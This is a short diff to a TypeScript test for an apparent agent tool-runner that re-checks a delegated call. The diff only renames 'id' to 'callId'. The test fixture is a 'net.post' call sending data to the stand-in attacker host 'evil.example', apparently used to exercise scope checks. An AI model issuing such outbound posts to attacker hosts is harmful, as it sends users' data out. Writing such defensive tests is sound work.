@@ -78,7 +78,7 @@ describe("runTool's re-check of a lead's call", () => {
   const input: RunToolInput = {
     turnId: lead,
     step: 2,
-    call: { id: 'c2', tool: 'net.post', input: { url: 'https://evil.example', body: 'x' } },
+    call: { callId: 'c2', tool: 'net.post', input: { url: 'https://evil.example', body: 'x' } },
     scope: 'net.post:evil.example',
     context: ['k-delegate'],
   };
